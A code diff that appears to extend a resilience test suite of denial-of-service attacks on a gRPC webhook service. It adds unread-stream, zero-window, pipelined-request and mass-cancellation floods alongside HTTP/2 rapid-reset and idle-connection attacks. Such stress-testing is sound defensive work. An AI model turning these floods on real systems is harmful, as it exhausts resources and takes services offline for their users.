@@ -9,13 +9,15 @@ from __future__ import annotations
 import asyncio
 import contextlib
 import os
+import socket
 import time
-from collections.abc import Awaitable, Callable, Mapping
+from collections.abc import AsyncGenerator, Awaitable, Callable, Mapping
 from typing import Any, Final
 
 import grpc
+from google.protobuf.duration_pb2 import Duration
 from grpc_health.v1 import health_pb2, health_pb2_grpc
-from webhook.v1 import service_pb2
+from webhook.v1 import delivery_pb2, event_pb2, service_pb2, webhook_pb2
 
 from .target import (
     CONTINUATION,
@@ -29,6 +31,7 @@ from .target import (
     WINDOW_UPDATE,
     Http2,
     Target,
+    bearer,
     frame,
     head,
     message,
@@ -53,7 +56,7 @@ async def rapid_reset(target: Target, scale: float) -> str:
         if not await connection.send(*frames):
             break
         sent += len(some)
-    return f"{sent} streams"
+    return f"{sent} streams, {await connection.answered()}"
 
 
 async def half_open(target: Target, scale: float) -> str:
@@ -65,7 +68,7 @@ async def half_open(target: Target, scale: float) -> str:
         if not await connection.send(*(frame(HEADERS, END_HEADERS, n, block) for n in some)):
             break
         sent += len(some)
-    return f"{sent} streams"
+    return f"{sent} streams, {await connection.answered()}"
 
 
 async def half_sent(target: Target, scale: float) -> str:
@@ -162,26 +165,26 @@ async def header_bomb(target: Target, scale: float) -> str:
         if not await connection.send(frame(HEADERS, 0, number, block), repeated):
             break
         sent += 1
-    return f"{sent} streams"
+    return f"{sent} streams, {await connection.answered()}"
 
 
 async def idle_grpc(target: Target, scale: float) -> str:
-    """TCP: connections to the gRPC port that say nothing."""
-    return await _idle(target, target.grpc, round(1500 * scale))
+    """TCP: connections to the gRPC port that say nothing, more than it has."""
+    return await _idle(target, target.grpc, round(2500 * scale))
 
 
 async def idle_http(target: Target, scale: float) -> str:
-    """TCP: connections to the HTTP port that say nothing."""
-    return await _idle(target, target.http, round(1500 * scale))
+    """TCP: connections to the HTTP port that say nothing, more than it has."""
+    return await _idle(target, target.http, round(2500 * scale))
 
 
 async def _idle(target: Target, door: tuple[str, int], count: int) -> str:
-    opened = 0
+    readers = list[asyncio.StreamReader]()
     with contextlib.suppress(OSError, TimeoutError):
         for _ in range(count):
-            await target.connect(door)
-            opened += 1
-    return f"{opened} connections"
+            readers.append((await target.connect(door))[0])
+    await asyncio.sleep(0.5)  # those that are too many are closed
+    return f"{len(readers)} connections, {sum(reader.at_eof() for reader in readers)} closed at once"
 
 
 async def slow_heads(target: Target, scale: float) -> str:
@@ -238,6 +241,106 @@ async def watches(target: Target, scale: float) -> str:
     return f"{count} watches"
 
 
+async def unread_changes(target: Target, scale: float) -> str:
+    """gRPC: watches of one token that stop reading, while answers of 16 KB to its events are to be shown to them."""
+    request = message(service_pb2.WatchDeliveriesRequest().SerializeToString())
+    block = head(METHOD + "WatchDeliveries", ("authorization", f"Bearer {HOSTILE}"))
+    async with _webhook(target, b"HTTP/1.1 200 OK\r\nContent-Length: 16000\r\n\r\n" + b"x" * 16_000) as stub:
+        for _ in range(max(1, round(5 * scale))):
+            connection = await Http2.open(target, window=1000)
+            for number in streams(100):
+                await connection.send(
+                    frame(HEADERS, END_HEADERS, number, block), frame(DATA, END_STREAM, number, request)
+                )
+        count = max(5, round(100 * scale))
+        event = event_pb2.Event(event_type="job.completed", data_json="{}")
+        batch = service_pb2.BatchPublishEventsRequest(requests=[service_pb2.PublishEventRequest(event=event)] * count)
+        await stub.BatchPublishEvents(batch, metadata=bearer(HOSTILE))
+        listed = service_pb2.ListDeliveriesRequest(statuses=[delivery_pb2.DELIVERY_STATUS_SUCCEEDED], page_size=count)
+        async with asyncio.timeout(SECONDS_MAX):
+            while len((await stub.ListDeliveries(listed, metadata=bearer(HOSTILE))).deliveries) < count:
+                await asyncio.sleep(0.1)
+    return f"{max(1, round(5 * scale)) * 100} watches, {count} changes"
+
+
+async def unread_answers(target: Target, scale: float) -> str:
+    """gRPC: calls of one token that take no byte of their answers: as many as a connection has streams, and again."""
+    request = message(service_pb2.ListEventTypesRequest().SerializeToString())
+    block = head(METHOD + "ListEventTypes", ("authorization", f"Bearer {HOSTILE}"))
+    answers = list[str]()
+    for _ in range(max(1, round(10 * scale))):
+        connection = await Http2.open(target, window=0)
+        for number in streams(round(1000 * min(1.0, 4 * scale))):
+            frames = frame(HEADERS, END_HEADERS, number, block), frame(DATA, END_STREAM, number, request)
+            if not await connection.send(*frames):
+                break
+        answers.append(await connection.answered())
+    return f"{len(answers)} connections, {answers[-1]}"
+
+
+async def unread_pages(target: Target, scale: float) -> str:
+    """HTTP/1: requests for the largest file of the page, one after the other, of which no answer is read."""
+    writers = list[asyncio.StreamWriter]()
+    for _ in range(round(200 * scale)):
+        connection = socket.socket()
+        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        connection.setblocking(False)
+        await asyncio.get_running_loop().sock_connect(connection, target.http)
+        _, writer = await asyncio.open_connection(sock=connection, limit=4096)
+        target.opened.append(writer)
+        writer.write(b"GET /api/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 30)
+        writers.append(writer)
+    await asyncio.sleep(15 * scale)
+    return f"{len(writers)} connections, {sum(writer.is_closing() for writer in writers)} closed by then"
+
+
+async def cancels(target: Target, scale: float) -> str:
+    """gRPC: cancellations, with a token, of one delivery whose receiver does not answer."""
+    codes = dict[str, int]()
+    async with _webhook(target, b"") as stub:
+        event = event_pb2.Event(event_type="job.completed", data_json="{}")
+        await stub.PublishEvent(service_pb2.PublishEventRequest(event=event), metadata=bearer(HOSTILE))
+        listed = service_pb2.ListDeliveriesRequest(statuses=[delivery_pb2.DELIVERY_STATUS_PENDING])
+        async with asyncio.timeout(SECONDS_MAX):
+            while not (found := (await stub.ListDeliveries(listed, metadata=bearer(HOSTILE))).deliveries):
+                await asyncio.sleep(0.1)
+        request = service_pb2.CancelDeliveryRequest(delivery_id=found[0].delivery_id)
+
+        async def cancel() -> None:
+            code = "OK"
+            try:
+                await stub.CancelDelivery(request, metadata=bearer(HOSTILE), timeout=SECONDS_MAX)
+            except grpc.aio.AioRpcError as error:
+                code = error.code().name
+            codes[code] = codes.get(code, 0) + 1
+
+        await asyncio.gather(*(cancel() for _ in range(max(30, round(1100 * scale)))))
+    return _words(codes)
+
+
+@contextlib.asynccontextmanager
+async def _webhook(target: Target, answer: bytes) -> AsyncGenerator[Any]:
+    """Gives the hostile customer a webhook whose receiver answers so; nothing: it does not answer. Yields a client."""
+
+    async def receive(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        with contextlib.suppress(ConnectionError):
+            while await reader.read(65_536):
+                writer.write(answer)
+        writer.close()
+
+    receiver = await asyncio.start_server(receive, "127.0.0.1", 0)
+    url = f"http://127.0.0.1:{receiver.sockets[0].getsockname()[1]}/"
+    async with target.stub() as stub:
+        webhook = webhook_pb2.Webhook(name="hostile", url=url, events=["*"], timeout=Duration(seconds=30))
+        made = await stub.CreateWebhook(service_pb2.CreateWebhookRequest(webhook=webhook), metadata=bearer(HOSTILE))
+        try:
+            yield stub
+        finally:
+            delete = service_pb2.DeleteWebhookRequest(webhook_id=made.webhook_id)
+            await stub.DeleteWebhook(delete, metadata=bearer(HOSTILE))
+            receiver.close()
+
+
 async def junk(target: Target, scale: float) -> str:
     """TCP: what is neither HTTP/2 nor HTTP/1, at both ports."""
     count = round(300 * scale)
@@ -271,5 +374,27 @@ FLOODS: Final[tuple[Attack, ...]] = (
     slow_bodies,
     event_streams,
     watches,
+    unread_changes,
+    unread_answers,
+    unread_pages,
+    cancels,
     junk,
+)
+# These attack as long as their connections are open.
+HELD: Final = frozenset[Attack](
+    (
+        half_open,
+        half_sent,
+        half_sent_with_token,
+        zero_window,
+        idle_grpc,
+        idle_http,
+        slow_heads,
+        slow_bodies,
+        event_streams,
+        watches,
+        unread_changes,
+        unread_answers,
+        unread_pages,
+    )
 )
